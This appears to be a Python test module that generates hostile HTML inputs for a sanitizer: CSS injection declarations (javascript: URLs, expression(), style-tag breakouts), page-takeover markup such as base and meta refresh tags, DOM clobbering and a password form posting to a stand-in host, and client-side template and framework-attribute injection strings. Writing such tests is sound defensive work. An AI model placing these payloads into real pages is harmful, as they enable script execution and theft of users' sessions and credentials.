"""Styles, page-wide elements and the hooks of client-side libraries."""

from collections.abc import Iterator

from tests.hostile.writing import Write, filled


def styles() -> Iterator[tuple[str, Write]]:
    declarations = {
        "url javascript": "background:url(javascript:\1)",
        "url quoted": "background-image:url('javascript:\1')",
        "url data": "background:url(data:text/html,\1)",
        "url entity": "background:url(&#106;avascript:\1)",
        "url remote": "background:url(//x.invalid/\1)",
        "url escaped": "background:\\75\\72\\6c(javascript:\1)",
        "expression": "width:expression(\1)",
        "expression comment": "width:expr/**/ession(\1)",
        "expression escaped": "width:\\65xpression(\1)",
        "behavior": "behavior:url(#\1)",
        "binding": "-moz-binding:url(//x.invalid/x.xml#\1)",
        "import": "@import 'javascript:\1'",
        "fixed": "position:fixed;inset:0;background:red /*\1*/",
        "absolute": "position:absolute;top:-9999px;left:0 /*\1*/",
        "string end": "font-family:'x;background:url(javascript:\1)'",
        "broken string": 'font-family:"x\n;background:url(javascript:\1)',
        "variable": "--x:url(javascript:\1);background:var(--x)",
        "image-set": "background:image-set('javascript:\1' 1x)",
        "cursor": "cursor:url(javascript:\1),auto",
        "list": "list-style:url(javascript:\1)",
        "content": "content:url(javascript:\1)",
        "filter": "filter:url(javascript:\1)",
        "close": "color:red}</style><img src=x: onerror=\1>",
        "z-index": "z-index:2147483647;position:sticky /*\1*/",
        "huge": "width:99999999px;margin:-99999px /*\1*/",
    }
    for name, declaration in declarations.items():
        yield f"style attribute, {name}", filled(raw=f'<p style="{declaration}">words</p>')
        yield f"style single, {name}", filled(raw=f"<td style='{declaration}'>words")
        yield (
            f"style element, {name}",
            filled(raw=f"<style>p{{{declaration}}}</style><p>words</p>"),
        )
    sheets = {
        "import": "@import url(javascript:\1);",
        "font": "@font-face{font-family:x;src:url(javascript:\1)}",
        "selector": "input[value^=a]{background:url(//x.invalid/\1)}",
        "end in string": "p{content:'</style><img src=x: onerror=\1>'}",
        "end in comment": "/*</style><img src=x: onerror=\1>*/",
    }
    for name, sheet in sheets.items():
        yield f"sheet, {name}", filled(raw=f"<style>{sheet}</style>")
        yield f"sheet in svg, {name}", filled(raw=f"<svg><style>{sheet}</style></svg>")


def page_takeovers() -> Iterator[tuple[str, Write]]:
    shapes = {
        "base": '<base href="https://x.invalid/"><p>\1',
        "base target": "<base target=_top><p>\1",
        "meta refresh": '<meta http-equiv=refresh content="0;url=data:text/html,<script>\1</script>">',
        "meta cookie": '<meta http-equiv=set-cookie content="x=\1">',
        "meta csp": "<meta http-equiv=content-security-policy content=\"script-src 'none'\"><p>\1",
        "meta charset": '<meta charset="utf-7"><p>+ADw-script+AD4-\1+ADw-/script+AD4-',
        "form": '<form action="https://x.invalid/\1"><input name=password type=password><button>words',
        "form takes fields": '<form id=f></form><input form=f name="\1" autofocus>',
        "isindex": '<isindex action="javascript:\1" type=image>',
        "keygen": '<keygen autofocus onfocus="\1">',
        "dialog": '<dialog open onfocusin="\1"><button autofocus>words</button></dialog>',
        "manifest": '<html manifest="//x.invalid/\1"><body>',
        "clobber id": "<a id=__ran></a><a id=document href='x:\1'></a>",
        "clobber name": "<img name=getElementById><form name=cookie><input name='\1'></form>",
        "clobber csrf": '<input name=csrfmiddlewaretoken value="\1">',
        "slot": '<slot name="\1"></slot><x-y is="\1">words</x-y>',
        "accesskey": '<a accesskey=x href="https://x.invalid/" onclick="\1">words</a>',
        "target opener": '<a target=_blank rel=opener href="https://x.invalid/\1">words</a>',
        "class of ours": '<div class="button button--danger" id="main" data-x="\1">words</div>',
        "live region": '<div role=alert aria-live=assertive aria-label="\1">words</div>',
        "import map": '<script type=importmap>{"imports":{"x":"data:text/javascript,\1"}}</script>',
        "speculation": '<script type=speculationrules>{"prefetch":[{"urls":["/\1"]}]}</script>',
    }
    for name, shape in shapes.items():
        yield f"page: {name}", filled(raw=shape)


def client_templates() -> Iterator[tuple[str, Write]]:
    expressions = {
        "double": "{{constructor.constructor('\1')()}}",
        "dollar": "${\1}",
        "percent": "<%= \1 %>",
        "percent Django": "{% include '\1' %}",
        "hash": "#{\1}",
        "bracket": "[[${\1}]]",
        "at": "@(\1)",
        "hidden in attribute": '<p title="{{constructor.constructor(`\1`)()}}">words</p>',
    }
    for name, expression in expressions.items():
        yield f"template: {name}", filled(raw=expression)
        yield f"template in paragraph: {name}", filled(raw=f"<p>{expression}</p>")
    attributes = (
        "hx-on:load hx-on::load hx-on-htmx-load hx-get hx-post hx-trigger hx-vals data-hx-on:load "
        "data-hx-get hx-ext x-init x-data x-on:load x-html @click :onclick v-html v-on:click v-bind:src "
        "ng-init ng-click data-ng-init ng-bind-html data-action data-controller data-bind up-on _ "
        "data-script data-on-load data-x-init wire:click data-turbo-frame is nonce onerror--"
    ).split()
    for name in attributes:
        value = "js:{x: \1}" if name == "hx-vals" else "\1"
        yield f"hook {name}", filled(raw=f'<div {name}="{value}" hx-trigger="load">words</div>')
        yield (
            f"hook on link {name}",
            filled(raw=f'<a href="https://x.invalid/" {name}="{value}">words</a>'),
        )
